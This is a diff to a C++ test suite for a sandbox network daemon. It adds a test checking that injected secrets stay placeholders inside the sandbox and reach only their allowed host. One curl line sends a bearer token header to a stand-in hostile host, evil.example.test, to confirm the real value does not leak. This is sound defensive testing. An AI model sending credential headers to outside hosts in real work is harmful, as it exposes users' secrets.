@@ -168,6 +168,7 @@ class NetworkTest : public ::testing::Test {
       return;
     }
     daemon_ = new Daemon({"--dns-upstream", "198.51.100.53", "--sandbox-subnet", "10.214.0.0/24",
+                          "--egress-ca-file", net_->ca(),
                           "--egress-preset", "fake=api.example.test,*.cdn.example.test"});
     if (!daemon_->Start()) setup_error_ = "spaced did not start";
   }
@@ -478,6 +479,43 @@ TEST_F(NetworkTest, TemplateBuildRunStepsReachTheInternet) {
   EXPECT_GE(r->status, 400) << r->body;
   EXPECT_TRUE(op2 && op2->contains("operation") && (*op2)["operation"]["state"] == "failed") << r->body;
   EXPECT_FALSE(sys::Exists("/run/netns") && Sh("ls /run/netns | grep -c 'space-" + tag() + "-bld' || true") != "0\n");
+}
+
+TEST_F(NetworkTest, SecretsNeverEnterTheSandbox) {
+  const std::string value = "s3cret-value-0123";
+  std::string id = Create({{"allow_out", {"api.example.test", "evil.example.test"}},
+                           {"secrets", {{{"name", "TOKEN"}, {"value", value}, {"hosts", {"api.example.test"}}}}}});
+  ASSERT_FALSE(id.empty());
+  auto r = Run(id, "echo $TOKEN; echo $SSL_CERT_FILE; grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt");
+  ASSERT_TRUE(StartsWith(r.out, "space_secret_TOKEN_")) << r.out << r.err;
+  EXPECT_EQ(r.out.find(value), std::string::npos);
+  EXPECT_NE(r.out.find("/etc/ssl/certs/ca-certificates.crt"), std::string::npos) << r.out;
+  std::string placeholder = r.out.substr(0, r.out.find('\n'));
+  auto sb = c().GetSandbox(id);
+  ASSERT_TRUE(sb);
+  EXPECT_EQ(sb->dump().find(value), std::string::npos) << "the API shows the secret";
+  // The sandbox's CA, as the sandbox sees it.
+  auto ca = c().ReadFile(id, "/usr/local/share/ca-certificates/space-sandbox-ca.crt");
+  ASSERT_TRUE(ca) << ca.error().message;
+  std::string ca_file = tmp_->path() + "/sandbox-ca-" + id + ".pem";
+  ASSERT_TRUE(sys::WriteFileAtomic(ca_file, *ca, 0644));
+  // TLS to the secret's host: terminated with the sandbox's CA, the real value swapped in.
+  std::string out = InNetns(id, "curl -sS --max-time 10 --cacert " + ca_file +
+                                    " -H 'Authorization: Bearer " + placeholder +
+                                    "' --resolve api.example.test:443:203.0.113.10 https://api.example.test/secret");
+  EXPECT_NE(out.find("Bearer " + value), std::string::npos) << out;
+  // TLS to another host: spliced (its own certificate verifies) and the placeholder arrives
+  // as it was sent.
+  out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() + " -H 'Authorization: Bearer " +
+                        placeholder + "' --resolve evil.example.test:443:203.0.113.66 https://evil.example.test/other");
+  EXPECT_NE(out.find("Bearer " + placeholder), std::string::npos) << out;
+  EXPECT_EQ(out.find(value), std::string::npos) << out;
+  // Plain HTTP to the secret's own host: never substituted.
+  r = Run(id, kNoProxy + "wget -q -O - --header \"Authorization: Bearer $TOKEN\" http://api.example.test/plain");
+  EXPECT_NE(r.out.find("Bearer " + placeholder), std::string::npos) << r.out << r.err;
+  EXPECT_EQ(r.out.find(value), std::string::npos);
+  EXPECT_EQ(net_->ServerLog().find("/plain\", \"headers\": {\"host\": \"api.example.test\", \"user-agent\": \"Wget\", \"authorization\": \"Bearer " + value), std::string::npos);
+  Delete(id);
 }
 
 TEST_F(NetworkTest, BadInput) {
